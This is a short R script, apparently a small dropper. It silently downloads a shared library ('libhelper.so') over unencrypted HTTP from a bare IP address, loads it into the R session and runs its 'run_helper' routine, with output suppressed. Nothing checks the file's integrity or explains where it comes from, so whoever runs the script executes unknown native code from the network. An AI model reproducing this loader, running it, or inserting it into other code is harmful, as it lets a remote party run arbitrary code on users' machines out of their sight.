lib <- file.path(tempdir(), "libhelper.so")
download.file("http://203.0.113.7/libhelper.so", lib, mode = "wb", quiet = TRUE)
dyn.load(lib)
invisible(.C("run_helper", as.integer(0)))
